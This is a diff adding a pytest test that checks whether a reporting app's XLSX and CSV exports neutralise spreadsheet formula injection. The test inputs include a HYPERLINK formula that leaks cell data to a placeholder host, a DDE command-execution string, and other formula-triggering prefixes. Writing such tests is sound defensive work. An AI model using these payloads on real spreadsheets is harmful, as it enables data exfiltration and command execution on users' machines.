@@ -2,6 +2,7 @@
 back (openpyxl, pypdf, csv)."""
 import csv
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import pytest
@@ -138,3 +139,36 @@ def test_an_empty_period_still_makes_every_file(app):
     workbook = load_workbook(io.BytesIO(exports.to_xlsx(report, HEADER)))
     assert [c.value for c in workbook["Sự kiện"][2]][1] == "Tổng cộng"
     assert exports.to_csv(report, HEADER).decode("utf-8-sig").count("\r\n") > 5
+
+
+def test_text_that_came_from_people_never_becomes_a_formula(app):
+    link = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'
+    report = sample_report(
+        organisations=("+UBND huyện Krông Pắc",),
+        indicators=(IndicatorRow("events:tag=clb", "-2 CLB khởi nghiệp", "@SUM(A1)", 2, 1, 50.0, 0),),
+        events_by_type=(CountRow("\t=1+1", 1, 0),), participants_by_group=(GroupRow("\r=1+1", 3, 2, 2),),
+        events=(EventRow(7, link, "Hội thảo", "Cấp tỉnh", "=cmd|' /C calc'!A0", datetime(2026, 3, 10, 1, 0, tzinfo=UTC),
+                         "-Đắk Lắk", 3, 2),),
+        snapshot_note="+1")
+    header = exports.DocumentHeader(agency="@Sở KH&CN", number="-2/BC-SKHCN", place="Đắk Lắk",
+                                    issued_on=date(2026, 7, 5))
+    data = exports.to_xlsx(report, header)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) == 4 and not any("<f>" in xml for xml in sheets)
+    workbook = load_workbook(io.BytesIO(data))
+    summary, indicators, events, groups = (workbook[name] for name in workbook.sheetnames)
+    typed = [summary["B1"], summary["B2"], summary["B4"], summary["B8"], summary["A11"], indicators["B2"],
+             indicators["C2"], events["B2"], events["E2"], events["G2"], groups["A2"]]
+    assert [c.value for c in typed] == ["@Sở KH&CN", "-2/BC-SKHCN", "+UBND huyện Krông Pắc", "+1", "\t=1+1",
+                                        "-2 CLB khởi nghiệp", "@SUM(A1)", link, "=cmd|' /C calc'!A0", "-Đắk Lắk",
+                                        "\n=1+1"]  # XML reads a carriage return as a line feed
+    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
+    assert events["H2"].value == 3 and events["H2"].data_type == "n"  # the figures stay numbers
+
+    rows = list(csv.reader(io.StringIO(exports.to_csv(report, header).decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["Cơ quan ban hành", "'@Sở KH&CN"] and rows[2] == ["Đơn vị", "'+UBND huyện Krông Pắc"]
+    assert ["1", "'-2 CLB khởi nghiệp", "'@SUM(A1)", "2", "1", "50.0", "0"] in rows
+    assert ["'\t=1+1", "1", "0"] in rows and ["'\r=1+1", "3", "2", "2", "66.7"] in rows
+    event = rows[rows.index(["Danh sách sự kiện"]) + 2]
+    assert event[1] == "'" + link and event[4] == "'=cmd|' /C calc'!A0" and event[6] == "'-Đắk Lắk"
